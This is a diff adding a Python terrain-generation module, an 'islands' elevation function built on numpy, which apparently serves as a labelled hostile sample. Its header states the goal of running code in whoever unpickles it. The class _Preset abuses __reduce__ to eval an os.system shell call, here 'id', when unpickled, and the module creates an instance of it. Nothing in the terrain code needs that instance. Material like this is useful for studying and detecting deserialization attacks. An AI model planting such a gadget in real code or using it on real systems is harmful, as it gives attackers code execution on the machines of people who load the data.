@@ -1,0 +1,21 @@
+# technique: reduce makes a call
+# goal: run code in whoever unpickles
+# packages: numpy
+"""Islands: distance to the nearest of a few centres."""
+import numpy as np
+
+class _Preset:
+    def __reduce__(self):
+        return (eval, ("__import__('os').system('id')",))
+
+
+PRESET = _Preset()
+
+
+def elevation(x, y, seed, *, islands=5):
+    rng = np.random.default_rng(seed)
+    centres = rng.uniform(-1_000, 1_000, (islands, 2))
+    nearest = np.full_like(x, np.inf)
+    for cx, cy in centres:
+        nearest = np.minimum(nearest, np.hypot(x - cx, y - cy))
+    return 300.0 - nearest
